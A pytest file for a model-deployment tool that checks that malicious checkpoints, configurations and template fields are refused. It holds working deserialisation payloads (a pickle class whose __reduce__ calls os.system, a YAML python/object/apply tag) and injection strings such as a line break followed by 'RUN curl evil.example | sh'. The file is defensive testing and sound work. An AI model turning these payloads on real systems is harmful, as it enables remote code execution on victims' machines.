"""Checkpoints (M25), configuration (M28) and fields of generated files (M29): nothing in them is ever run."""

from __future__ import annotations

import io
import os
import pickle
import shutil
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from fmdeploy import cli
from fmdeploy.config import StageConfig, load_config
from fmdeploy.errors import ConfigError, InputError
from fmdeploy.plainfield import ImageName, PlainFolder, PlainName, UserName, plain_field
from fmdeploy.runtime.bundle import open_bundle
from support.badfiles import bundle_with, refused_by_runtime
from support.fdti import Fdti
from support.runtimes import toy_bundle


class Payload:
    """What a hostile checkpoint holds: unpickling it runs a command."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self.marker}",)


def torch_zip(marker: Path, code: bool = False) -> bytes:
    """The layout of torch.save, or with code that of TorchScript."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(Payload(marker)))
        archive.writestr("archive/version", "3\n")
        if code:
            archive.writestr("archive/code/__torch__.py", f"import os\nos.system('touch {marker}')\n")
    return packed.getvalue()


def legacy_tar(marker: Path) -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        raw = pickle.dumps(Payload(marker))
        info = tarfile.TarInfo("storages")
        info.size = len(raw)
        archive.addfile(info, io.BytesIO(raw))
    return packed.getvalue()


CHECKPOINTS: dict[str, tuple[Callable[[Path], bytes], str]] = {
    "pickle": (lambda marker: pickle.dumps(Payload(marker)), "a Python pickle"),
    "old pickle": (lambda marker: pickle.dumps(Payload(marker), protocol=2), "a Python pickle"),
    "torch zip": (torch_zip, "a zip archive"),
    "TorchScript": (lambda marker: torch_zip(marker, True), "a zip archive"),
    "legacy tar": (legacy_tar, "a tar archive"),
    "7z": (lambda marker: b"7z\xbc\xaf\x27\x1c" + pickle.dumps(Payload(marker)), "a 7z archive"),
}


def command_line(capsys: pytest.CaptureFixture[str], *argv: object) -> tuple[int, str]:
    capsys.readouterr()
    with pytest.raises(SystemExit) as stop:
        cli.main([str(a) for a in argv])
    return int(stop.value.code or 0), capsys.readouterr().err


@pytest.mark.parametrize("case", CHECKPOINTS)
def test_M25_checkpoint_in_place_of_weights(case: str, tmp_path: Path, fdti: Fdti) -> None:
    make, cause = CHECKPOINTS[case]
    marker = tmp_path / "executed"
    with fdti.detecting("as a model of a sealed bundle"):
        said = refused_by_runtime(tmp_path / "model", make(marker))
    assert cause in said
    root = bundle_with(tmp_path / "golden", {"golden.safetensors": make(marker)})
    with fdti.detecting("as golden tensors"), pytest.raises(InputError, match="not a safetensors file"):
        open_bundle(root)
    assert not marker.exists(), "a checkpoint was executed"


@pytest.mark.parametrize("case", ["pickle", "torch zip", "7z"])
@pytest.mark.parametrize("verb", [("export", "--from-onnx"), ("export", "--lint"), ("estimate", "--device", "orin-nx-16")])
def test_M25_checkpoint_where_a_model_file_is_asked_for(
    verb: tuple[str, ...], case: str, tmp_path: Path, fdti: Fdti, capsys: pytest.CaptureFixture[str]
) -> None:
    make, cause = CHECKPOINTS[case]
    marker, file = tmp_path / "executed", tmp_path / "weights.pt"
    file.write_bytes(make(marker))
    with fdti.detecting(" ".join(verb)):
        code, said = command_line(capsys, *verb, file, *(("--out", tmp_path / "out") if "--from-onnx" in verb else ()))
    assert code == 2, said
    assert "weights.pt" in said
    assert cause in said
    assert not marker.exists()


def test_M25_checkpoint_in_place_of_an_artifact(
    tmp_path: Path, fdti: Fdti, capsys: pytest.CaptureFixture[str]
) -> None:
    marker = tmp_path / "executed"
    (tmp_path / "model.pt").write_bytes(torch_zip(marker))
    for argv in (("show", tmp_path / "model.pt"), ("verify", tmp_path / "model.pt", "--key", tmp_path / "model.pt"),
                 ("bench", tmp_path / "model.pt")):
        with fdti.detecting(str(argv[0])):
            code, said = command_line(capsys, *argv)
        assert code == 2, said
        assert "a zip archive" in said
    assert not marker.exists()


def test_M25_control_payload_does_run_when_it_is_unpickled(tmp_path: Path) -> None:
    pickle.loads(pickle.dumps(Payload(tmp_path / "executed")))
    assert (tmp_path / "executed").exists(), "the marker proves nothing"


def test_M25_control_safetensors_and_ONNX_pass() -> None:
    assert open_bundle(toy_bundle()).model_bytes("fp32")


# M28: configuration.


class Config(StageConfig):
    """A configuration with one key of each kind."""

    seed: int = 0
    rate: float = 0.5
    on: bool = True
    name: str = ""
    names: tuple[str, ...] = ()


def tag(marker: Path) -> str:
    return f"!!python/object/apply:os.system ['touch {marker}']"


YAML: dict[str, Callable[[Path], str]] = {
    "object": lambda marker: f"seed: {tag(marker)}\n", "document": lambda marker: f"---\nname: {tag(marker)}\n",
    "alias bomb": lambda marker: "a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\nname: *c\n",
    "tab": lambda marker: "name:\n\tseed: 1\n", "no": lambda marker: "on: no\n", "octal": lambda marker: "seed: 010\n",
}
TOML = {
    "duplicate key": ("seed = 1\nseed = 2\n", "is not TOML"), "duplicate table": ("[a]\n[a]\n", "is not TOML"),
    "octal with a leading zero": ("seed = 010\n", "is not TOML"), "no": ("on = no\n", "is not TOML"),
    "yes in quotes": ('on = "yes"\n', "'on'"), "number for truth": ("on = 1\n", "'on'"),
    "text for a number": ('seed = "1"\n', "'seed'"), "a float for a number": ("seed = 1.0\n", "'seed'"),
    "NaN": ("rate = nan\n", "'rate'"), "infinity": ("rate = inf\n", "'rate'"), "1e999": ("rate = 1e999\n", "'rate'"),
    "a date": ("name = 1979-05-27\n", "no configuration can hold"), "a table": ("[seed]\nx = 1\n", "'seed'"),
    "unknown": ("sead = 1\n", "did you mean 'seed'"), "bytes": ("\xff\xfe", "is not TOML|unknown"), "deep": ("names = " + "[" * 3000, "is not TOML"),
    "dotted deep": ("seed." * 3000 + "a = 1\n", "is not TOML|'seed'"), "a list of numbers": ("names = [1]\n", "'names"),
    "one text for a list": ('names = "abc"\n', "'names'"), "huge number": ("seed = " + "9" * 5000 + "\n", "is not TOML|'seed'"),
}


@pytest.mark.parametrize("case", YAML)
def test_M28_yaml_is_refused(case: str, tmp_path: Path, fdti: Fdti) -> None:
    marker = tmp_path / "executed"
    (tmp_path / "config.yaml").write_text(YAML[case](marker))
    with fdti.detecting(case), pytest.raises(ConfigError, match="is not TOML.*YAML is not read here") as caught:
        load_config(Config, {}, file=tmp_path / "config.yaml")
    assert "\n" not in str(caught.value)
    assert not marker.exists()


@pytest.mark.parametrize("case", TOML)
def test_M28_toml_traps(case: str, tmp_path: Path, fdti: Fdti) -> None:
    text, message = TOML[case]
    (tmp_path / "config.toml").write_bytes(text.encode("latin-1"))
    with fdti.detecting(case), pytest.raises(ConfigError, match=message) as caught:
        load_config(Config, {}, file=tmp_path / "config.toml")
    assert "\n" not in str(caught.value)
    assert len(str(caught.value)) < 8000


def test_M28_configuration_of_100_MB(tmp_path: Path, fdti: Fdti) -> None:
    (tmp_path / "config.toml").write_bytes(b"#" * 10**8)
    with fdti.detecting(), pytest.raises(ConfigError, match="too large for a configuration"):
        load_config(Config, {}, file=tmp_path / "config.toml")


def test_M28_nothing_here_imports_a_yaml_reader(root: Path, fdti: Fdti) -> None:
    with fdti.detecting("reading every source file"):
        found = [path for path in (root / "src" / "fmdeploy").glob("**/*.py") if "import yaml" in path.read_text()]
    assert found == []


def test_M28_control_plain_toml_is_read(tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text('seed = 0o17\nrate = 1.5\non = false\nname = "no"\nnames = ["a", "b"]\n')
    assert load_config(Config, {}, file=tmp_path / "config.toml") == Config(
        seed=15, rate=1.5, on=False, name="no", names=("a", "b"))


# M29: fields of generated files. The first is the payload class of CVE-2026-44346: a line break, then an instruction.

HOSTILE = ("python3\nRUN curl evil.example | sh", "a\rb", 'a"b', "a'b", "$(touch x)", "`touch x`", "${HOME}", "a;b", "a|b", "a&b",
           "a>b", "a b", "a\tb", "a\0b", "a\\b", "#a", "a{b}", "a*", "~a", "!a", "", " ", "é", "a\u2028b", "a\x1b[0m", "%h", "a\n")
FIELDS = {"image": ImageName, "user": UserName, "name": PlainName, "folder": PlainFolder}


@pytest.mark.parametrize("text", HOSTILE, ids=repr)
def test_M29_hostile_fields_are_refused(text: str, fdti: Fdti) -> None:
    with fdti.detecting(), pytest.raises(InputError) as caught:
        plain_field(text, where="a template")
    assert "\n" not in str(caught.value)
    from pydantic import TypeAdapter, ValidationError

    for kind in FIELDS.values():
        with pytest.raises(ValidationError):
            TypeAdapter(kind).validate_python(text)


def test_M29_control_plain_fields_pass() -> None:
    from pydantic import TypeAdapter

    good = {"image": "nvcr.io/nvidia/l4t-jetpack:r36.4.0", "user": "10001:10001", "name": "fmdeploy-1.0", "folder": "/var/lib/fmdeploy"}
    for name, text in good.items():
        assert TypeAdapter(FIELDS[name]).validate_python(text) == text
        assert plain_field(text, where="a template") == text


def test_M25_control_bundle_copy_is_what_the_tests_break(tmp_path: Path) -> None:
    shutil.copytree(toy_bundle(), tmp_path / "b")
    assert open_bundle(tmp_path / "b").variants == ("fp32", "int8-cpu")
